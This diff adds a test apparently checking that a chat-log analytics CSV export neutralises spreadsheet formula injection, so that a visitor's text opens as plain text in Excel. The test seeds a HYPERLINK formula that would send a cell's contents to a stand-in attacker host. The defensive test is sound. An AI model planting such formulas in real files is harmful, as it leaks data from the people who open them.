@@ -142,6 +142,19 @@ def test_csv_export_round_trips_with_feedback_and_sources(seeded):
     assert parquet["question"].tolist() == frame["question"].tolist()
 
 
+def test_a_visitors_formula_opens_as_text_in_a_spreadsheet(seeded):
+    """Share-link visitors type anything; the owner opens the export in Excel."""
+    session, alice, _, g1, *_ = seeded
+    formula = '=HYPERLINK("https://evil.example/?"&B2,"Click")'
+    session.add(ChatLog(user_id=alice.id, group_id=g1.id, question=formula, answer="-1 is not an answer",
+                        is_shared_origin=True, created_at=DAY2, related_videos=[]))
+    session.flush()
+    frame = pd.read_csv(io.BytesIO(analytics.export_csv(session, Scope(alice.id), Filters())), keep_default_na=False)
+    row = frame[frame["question"].str.contains("HYPERLINK")].iloc[0]
+    assert row["question"] == "'" + formula and row["answer"] == "'-1 is not an answer"
+    assert "What is the price?" in frame["question"].tolist()  # ordinary text is unchanged
+
+
 def test_a_normal_user_never_sees_another_users_logs(seeded):
     session, alice, bob, *_ = seeded
     scope = Scope(alice.id)
